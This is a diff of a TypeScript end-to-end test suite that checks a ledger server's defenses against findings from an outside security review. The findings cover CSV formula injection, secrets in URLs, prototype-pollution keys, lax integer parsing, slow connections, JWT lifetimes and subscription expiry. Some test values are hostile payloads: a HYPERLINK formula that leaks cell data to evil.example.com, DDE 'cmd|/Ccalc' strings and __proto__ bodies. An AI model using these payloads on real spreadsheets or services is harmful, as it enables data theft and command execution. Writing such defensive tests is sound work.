@@ -1,19 +1,29 @@
+import { randomUUID } from 'node:crypto';
+import type { Server } from 'node:http';
+import { type AddressInfo, connect, type Socket } from 'node:net';
+
 import type { EventStore } from '@ledger/event-store';
 import { EVENT_STORE } from '@ledger/ledger';
 import { JwtService } from '@nestjs/jwt';
 import { parse as parseCsv } from 'csv-parse/sync';
-import { createClient, type Client } from 'graphql-ws';
-import { randomUUID } from 'node:crypto';
-import type { Server } from 'node:http';
-import { connect, type AddressInfo, type Socket } from 'node:net';
+import { type Client, createClient } from 'graphql-ws';
 import { WebSocket } from 'ws';
+
 import { cli } from '../e2e/support/cli';
 import { expectProblem, seedOrganisation, TEST_JWT_SECRET, TestApp, tokenFor, winClient } from '../e2e/support/test-app';
 import { recordFigures } from './support/figures';
 
 /** What an outside review found at the edges of the HTTP server: CSV cells, credentials in URLs, odd keys and numbers, slow and expired clients. */
 
-const FORMULAS = ['=HYPERLINK("http://evil.example.com/?leak="&A1,"click")', "=cmd|'/Ccalc'!A0", '@SUM(1+1)*cmd|"/Ccalc"!A0', '+1+1', '-1+1', '\tTAB', '\rCR'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example.com/?leak="&A1,"click")',
+  "=cmd|'/Ccalc'!A0",
+  '@SUM(1+1)*cmd|"/Ccalc"!A0',
+  '+1+1',
+  '-1+1',
+  '\tTAB',
+  '\rCR',
+];
 
 async function listening(app: TestApp): Promise<number> {
   const server = app.app.getHttpServer() as Server;
@@ -44,18 +54,29 @@ describe('HTTP hardening against an outside review', () => {
     it('refuses a correlation id outside the safe alphabet with 400 naming the header, and appends nothing', async () => {
       const head = await app.headPosition();
       for (const correlationId of [...FORMULAS.filter((formula) => !/^[\t\r]/.test(formula)), 'a b', 'ok|pipe', 'x'.repeat(129)]) {
-        const answer = await app.http.post('/v1/clients/acme/orders').set('X-Correlation-Id', correlationId).send({ orderId: `o-${randomUUID()}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' });
+        const answer = await app.http
+          .post('/v1/clients/acme/orders')
+          .set('X-Correlation-Id', correlationId)
+          .send({ orderId: `o-${randomUUID()}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' });
         expectProblem(answer, 400, 'VALIDATION_FAILED');
         expect(answer.body.errors).toEqual([expect.objectContaining({ field: 'X-Correlation-Id' })]);
       }
       expect(await app.headPosition()).toBe(head);
-      await app.http.post('/v1/clients/acme/orders').set('X-Correlation-Id', 'batch-2024.06:run_7').send({ orderId: 'o-safe-corr', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' }).expect(201);
+      await app.http
+        .post('/v1/clients/acme/orders')
+        .set('X-Correlation-Id', 'batch-2024.06:run_7')
+        .send({ orderId: 'o-safe-corr', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' })
+        .expect(201);
     });
 
     it('refuses an unsafe correlation id given as a GraphQL option too', async () => {
       const answer = await app.http.post('/graphql').send({
-        query: 'mutation ($input: PlaceReorderInput!, $options: CommandOptions) { placeReorder(clientId: "acme", input: $input, options: $options) { position } }',
-        variables: { input: { orderId: 'o-gql-formula', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' }, options: { correlationId: '=1+1' } },
+        query:
+          'mutation ($input: PlaceReorderInput!, $options: CommandOptions) { placeReorder(clientId: "acme", input: $input, options: $options) { position } }',
+        variables: {
+          input: { orderId: 'o-gql-formula', total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' },
+          options: { correlationId: '=1+1' },
+        },
       });
       expect(answer.body.errors[0].extensions.code).toBe('VALIDATION_FAILED');
     });
@@ -78,11 +99,15 @@ describe('HTTP hardening against an outside review', () => {
           { expectedRevision: 'no_stream' },
         );
       }
-      const answer = await app.http.get('/v1/events').set('Accept', 'text/csv').buffer(true).parse((response, done) => {
-        let text = '';
-        response.on('data', (chunk: Buffer) => (text += chunk.toString()));
-        response.on('end', () => done(null, text));
-      });
+      const answer = await app.http
+        .get('/v1/events')
+        .set('Accept', 'text/csv')
+        .buffer(true)
+        .parse((response, done) => {
+          let text = '';
+          response.on('data', (chunk: Buffer) => (text += chunk.toString()));
+          response.on('end', () => done(null, text));
+        });
       const text = answer.body as string;
       const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
       const legacy = rows.filter((row) => row.streamId.startsWith('employee-legacy-'));
@@ -96,7 +121,10 @@ describe('HTTP hardening against an outside review', () => {
 
     it("neutralises the handoff reason in the CLI's replay --format csv", async () => {
       await winClient(app, 'csv-co');
-      await app.http.post('/v1/clients/csv-co/handoff').send({ toManagerId: 'mgr-carl', reason: '=HYPERLINK("http://evil.example.com","x")' }).expect(201);
+      await app.http
+        .post('/v1/clients/csv-co/handoff')
+        .send({ toManagerId: 'mgr-carl', reason: '=HYPERLINK("http://evil.example.com","x")' })
+        .expect(201);
       const { stdout, code } = await cli(app.config.storage, 'replay', '--projection', 'handoffs', '--format', 'csv');
       expect(code).toBe(0);
       const rows = parseCsv(stdout, { columns: true }) as Record<string, string>[];
@@ -111,7 +139,9 @@ describe('HTTP hardening against an outside review', () => {
         await app.http.get('/v1/clients/nobody?access_token=SECRET-1&status=active'),
         await app.http.get('/v1/nowhere?token=SECRET-2'),
         await app.anonymous.get('/v1/clients?API_KEY=SECRET-3&limit=5'),
-        await app.http.get('/v1/events?limit=0&Authorization=Bearer%20SECRET-4&jwt=SECRET-5&password=SECRET-6&client_secret=SECRET-7&key=SECRET-8'),
+        await app.http.get(
+          '/v1/events?limit=0&Authorization=Bearer%20SECRET-4&jwt=SECRET-5&password=SECRET-6&client_secret=SECRET-7&key=SECRET-8',
+        ),
       ];
       for (const answer of answers) {
         expect(answer.status).toBeGreaterThanOrEqual(400);
@@ -124,28 +154,45 @@ describe('HTTP hardening against an outside review', () => {
   });
 
   describe('odd keys and numbers (item 14)', () => {
-    it.each(['__proto__', 'constructor', 'prototype'])('refuses a body with a %s key like any unknown key: 400 naming it, nothing appended', async (key) => {
-      const head = await app.headPosition();
-      const topLevel = await app.http.post('/v1/employees').set('Content-Type', 'application/json').send(`{"employeeId":"odd-keys","name":"Odd","department":"sales","role":"rep","${key}":{"admin":true}}`);
-      expectProblem(topLevel, 400, 'VALIDATION_FAILED');
-      expect(topLevel.body.errors).toEqual([{ field: key, message: `property ${key} should not exist` }]);
-      const nested = await app.http
-        .post('/v1/clients')
-        .set('Content-Type', 'application/json')
-        .send(`{"clientId":"odd-co","leadId":"lead-of-acme","repId":"rep-anna","firstOrder":{"orderId":"x","total":{"amount":1,"currency":"EUR","${key}":{"polluted":1}}}}`);
-      expectProblem(nested, 400, 'VALIDATION_FAILED');
-      expect(nested.body.errors).toEqual([{ field: `firstOrder.total.${key}`, message: `property ${key} should not exist` }]);
-      expectProblem(await app.http.get(`/v1/clients?${key}=1`), 400, 'VALIDATION_FAILED');
-      expect(await app.headPosition()).toBe(head);
-      expect(({} as Record<string, unknown>).admin).toBeUndefined();
-    });
+    it.each(['__proto__', 'constructor', 'prototype'])(
+      'refuses a body with a %s key like any unknown key: 400 naming it, nothing appended',
+      async (key) => {
+        const head = await app.headPosition();
+        const topLevel = await app.http
+          .post('/v1/employees')
+          .set('Content-Type', 'application/json')
+          .send(`{"employeeId":"odd-keys","name":"Odd","department":"sales","role":"rep","${key}":{"admin":true}}`);
+        expectProblem(topLevel, 400, 'VALIDATION_FAILED');
+        expect(topLevel.body.errors).toEqual([{ field: key, message: `property ${key} should not exist` }]);
+        const nested = await app.http
+          .post('/v1/clients')
+          .set('Content-Type', 'application/json')
+          .send(
+            `{"clientId":"odd-co","leadId":"lead-of-acme","repId":"rep-anna","firstOrder":{"orderId":"x","total":{"amount":1,"currency":"EUR","${key}":{"polluted":1}}}}`,
+          );
+        expectProblem(nested, 400, 'VALIDATION_FAILED');
+        expect(nested.body.errors).toEqual([{ field: `firstOrder.total.${key}`, message: `property ${key} should not exist` }]);
+        expectProblem(await app.http.get(`/v1/clients?${key}=1`), 400, 'VALIDATION_FAILED');
+        expect(await app.headPosition()).toBe(head);
+        expect(({} as Record<string, unknown>).admin).toBeUndefined();
+      },
+    );
 
-    it.each(['0x10', '1e1', ' 16', '16 ', '+16', '16.0', '0b1', '', '99999999999999999999'])('refuses the integer query parameter %j: only plain decimal digits', async (value) => {
-      for (const query of [`/v1/events?limit=${encodeURIComponent(value)}`, `/v1/events?after=${encodeURIComponent(value)}`, `/v1/clients?limit=${encodeURIComponent(value)}`, `/v1/retention?atRiskDays=${encodeURIComponent(value)}`, `/v1/clients?minPosition=${encodeURIComponent(value)}`]) {
-        const answer = await app.http.get(query);
-        expectProblem(answer, 400, 'VALIDATION_FAILED');
-      }
-    });
+    it.each(['0x10', '1e1', ' 16', '16 ', '+16', '16.0', '0b1', '', '99999999999999999999'])(
+      'refuses the integer query parameter %j: only plain decimal digits',
+      async (value) => {
+        for (const query of [
+          `/v1/events?limit=${encodeURIComponent(value)}`,
+          `/v1/events?after=${encodeURIComponent(value)}`,
+          `/v1/clients?limit=${encodeURIComponent(value)}`,
+          `/v1/retention?atRiskDays=${encodeURIComponent(value)}`,
+          `/v1/clients?minPosition=${encodeURIComponent(value)}`,
+        ]) {
+          const answer = await app.http.get(query);
+          expectProblem(answer, 400, 'VALIDATION_FAILED');
+        }
+      },
+    );
 
     it('still reads plain decimal integers', async () => {
       expect((await app.http.get('/v1/events?limit=16&after=0').expect(200)).body.events.length).toBeGreaterThan(0);
@@ -178,17 +225,25 @@ describe('slow and idle connections (item 14)', () => {
     const silent = connect(port, '127.0.0.1');
     const silentClosed = await closed(silent);
     expect(silentClosed.afterMs).toBeLessThan(3_000);
-    recordFigures('slow-headers', { headersTimeoutMs: 1000, slowHeadersClosedAfterMs: afterMs, silentConnectionClosedAfterMs: silentClosed.afterMs });
+    recordFigures('slow-headers', {
+      headersTimeoutMs: 1000,
+      slowHeadersClosedAfterMs: afterMs,
+      silentConnectionClosedAfterMs: silentClosed.afterMs,
+    });
   });
 
   it('refuses connections beyond LEDGER_MAX_CONNECTIONS at once, and serves again when they go', async () => {
     const held = await Promise.all(
-      Array.from({ length: 20 }, () => new Promise<Socket>((resolve) => {
-        const socket = connect(port, '127.0.0.1', () => {
-          socket.write('GET /health HTTP/1.1\r\nHost: ledger\r\n');
-          resolve(socket);
-        });
-      })),
+      Array.from(
+        { length: 20 },
+        () =>
+          new Promise<Socket>((resolve) => {
+            const socket = connect(port, '127.0.0.1', () => {
+              socket.write('GET /health HTTP/1.1\r\nHost: ledger\r\n');
+              resolve(socket);
+            });
+          }),
+      ),
     );
     await new Promise((resolve) => setTimeout(resolve, 100));
     const extra = connect(port, '127.0.0.1');
@@ -219,16 +274,28 @@ describe('token lifetimes in production (item 8)', () => {
 
   it('refuses a token living longer than LEDGER_JWT_MAX_LIFETIME_SECONDS (24 h by default), measured from iat or, without iat, from now', async () => {
     const tenYears = 10 * 365 * 24 * 3600;
-    expectProblem(await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds(), exp: nowSeconds() + tenYears })), 401, 'UNAUTHENTICATED');
+    expectProblem(
+      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds(), exp: nowSeconds() + tenYears })),
+      401,
+      'UNAUTHENTICATED',
+    );
     expectProblem(await call(sign({ sub: 'test-admin', role: 'admin', exp: nowSeconds() + 25 * 3600 })), 401, 'UNAUTHENTICATED');
     // Issued long ago, with a long life: still over the cap even though little of it is left.
-    expectProblem(await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() - tenYears, exp: nowSeconds() + 60 })), 401, 'UNAUTHENTICATED');
+    expectProblem(
+      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() - tenYears, exp: nowSeconds() + 60 })),
+      401,
+      'UNAUTHENTICATED',
+    );
     await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds(), exp: nowSeconds() + 23 * 3600 })).expect(200);
     await call(tokenFor('admin')).expect(200);
   });
 
   it('refuses a token issued in the future beyond the clock skew', async () => {
-    expectProblem(await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() + 3600, exp: nowSeconds() + 7200 })), 401, 'UNAUTHENTICATED');
+    expectProblem(
+      await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() + 3600, exp: nowSeconds() + 7200 })),
+      401,
+      'UNAUTHENTICATED',
+    );
     await call(sign({ sub: 'test-admin', role: 'admin', iat: nowSeconds() + 60, exp: nowSeconds() + 3600 })).expect(200);
   });
 
@@ -236,7 +303,10 @@ describe('token lifetimes in production (item 8)', () => {
     const short = await TestApp.start({ env: { NODE_ENV: 'production', LEDGER_JWT_MAX_LIFETIME_SECONDS: '600' } });
     try {
       expectProblem(await short.anonymous.get('/v1/clients').set('Authorization', `Bearer ${tokenFor('admin')}`), 401, 'UNAUTHENTICATED');
-      await short.anonymous.get('/v1/clients').set('Authorization', `Bearer ${tokenFor('admin', 'test-admin', 300)}`).expect(200);
+      await short.anonymous
+        .get('/v1/clients')
+        .set('Authorization', `Bearer ${tokenFor('admin', 'test-admin', 300)}`)
+        .expect(200);
     } finally {
       await short.stop();
     }
@@ -279,11 +349,17 @@ describe('subscriptions end with their token (item 9)', () => {
     clients.push(client);
     const delivered: { at: number }[] = [];
     const done = new Promise<void>((resolve) => {
-      client.subscribe({ query: 'subscription { eventAppended(types: ["ReorderPlaced"]) { position } }' }, { next: () => delivered.push({ at: Date.now() }), error: () => resolve(), complete: () => resolve() });
+      client.subscribe(
+        { query: 'subscription { eventAppended(types: ["ReorderPlaced"]) { position } }' },
+        { next: () => delivered.push({ at: Date.now() }), error: () => resolve(), complete: () => resolve() },
+      );
     });
     // Orders keep coming before and after the expiry.
     for (let index = 0; Date.now() < expiresAt + 1_500; index += 1) {
-      await app.http.post('/v1/clients/acme/orders').send({ orderId: `o-exp-${index}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' }).expect(201);
+      await app.http
+        .post('/v1/clients/acme/orders')
+        .send({ orderId: `o-exp-${index}`, total: { amount: 100, currency: 'EUR' }, takenBy: 'rep-anna' })
+        .expect(201);
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
     await done;
@@ -295,6 +371,11 @@ describe('subscriptions end with their token (item 9)', () => {
     expect(closedAfterExpiryMs).toBeLessThan(1_000);
     expect(delivered.filter(({ at }) => at > closedAt!)).toEqual([]);
     const deliveredAfterExpiry = delivered.filter(({ at }) => at > expiresAt).length;
-    recordFigures('subscription-token-expiry', { closeCode, closedAfterExpiryMs, deliveredBeforeExpiry: delivered.length - deliveredAfterExpiry, deliveredAfterExpiry });
+    recordFigures('subscription-token-expiry', {
+      closeCode,
+      closedAfterExpiryMs,
+      deliveredBeforeExpiry: delivered.length - deliveredAfterExpiry,
+      deliveredAfterExpiry,
+    });
   });
 });
